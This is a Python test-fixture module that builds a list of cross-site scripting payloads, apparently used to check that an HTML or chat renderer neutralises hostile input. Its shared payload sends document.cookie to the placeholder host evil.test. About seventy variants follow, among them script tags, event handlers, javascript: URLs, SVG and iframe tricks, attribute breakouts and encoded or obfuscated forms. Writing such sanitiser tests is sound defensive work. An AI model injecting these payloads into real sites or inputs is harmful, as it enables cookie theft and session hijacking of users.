"""Texts that would become script, or fetch something, wherever they were parsed as HTML; one a line."""

RUN = "window.hacked=(window.hacked||0)+1,fetch('//evil.test/'+document.cookie),alert(1)"

_TEXTS = """\
<script>§</script>
<ScRiPt>§</sCrIpT>
<script⏎>§</script\t>
<script/x>§</script>
<<script>§//<</script>
<script src=//evil.test/x.js></script>
<script src='data:text/javascript,§'></script>
<img src=x onerror="§">
<img src=//evil.test/a.png>
<IMG SRC=x OnErRoR='§'>
<img/src='x'/onerror="§">
<img src=x onerror="§"//
<svg onload="§">
<svg/onload="§">
<svg><script>§</script></svg>
<svg><animate onbegin="§" attributeName=x>
<svg><image href=//evil.test/i.png /></svg>
<svg><use href=//evil.test/u.svg#x /></svg>
<math><mtext></p><img src onerror="§">
<iframe src="javascript:§"></iframe>
<iframe srcdoc="<script>§</script>"></iframe>
<iframe src=//evil.test/></iframe>
<object data="javascript:§"></object>
<object data=//evil.test/o></object>
<embed src="javascript:§">
<embed src=//evil.test/e>
<body onload="§">
<body background=//evil.test/b>
<link rel=stylesheet href=//evil.test/c.css>
<link rel=prefetch href=//evil.test/p>
<style>@import '//evil.test/s.css';</style>
<style>*{background:url(//evil.test/u)}</style>
<div style="background:url(//evil.test/d)">x</div>
<meta http-equiv=refresh content='0;url=//evil.test/'>
<base href=//evil.test/>
<form action=//evil.test/><button>x</button></form>
<input autofocus onfocus="§">
<textarea autofocus onfocus="§"></textarea>
<select autofocus onfocus="§"></select>
<details open ontoggle="§">x</details>
<video><source onerror="§"></video>
<video poster=//evil.test/v.png></video>
<audio src=//evil.test/a.mp3 onerror="§">
<marquee onstart="§">x</marquee>
<a href="javascript:§">x</a>
<template><script>§</script></template>
<slot><img src=x onerror="§"></slot>
<wenbao-chat data-host=//evil.test/></wenbao-chat>
"><script>§</script>
'><img src=x onerror="§">
</title><script>§</script>
</textarea><script>§</script>
</script><script>§</script>
</mark></p></div><script>§</script>
--><script>§</script><!--
]]><script>§</script>
" onmouseover="§" autofocus onfocus="§" x="
javascript:§
data:text/html,<script>§</script>
${§}
{{§}}
&lt;script&gt;§&lt;/script&gt;
&#60;img src=x onerror="§"&#62;
\\u003cscript\\u003e§\\u003c/script\\u003e
[点这里](javascript:§)
![x](//evil.test/m.png)
\u202e<script>§</script>\u2066
<scr\0ipt>§</scr\0ipt>
"""

HOSTILE_TEXTS = [text.replace("§", RUN).replace("⏎", "\n") for text in _TEXTS.splitlines()]
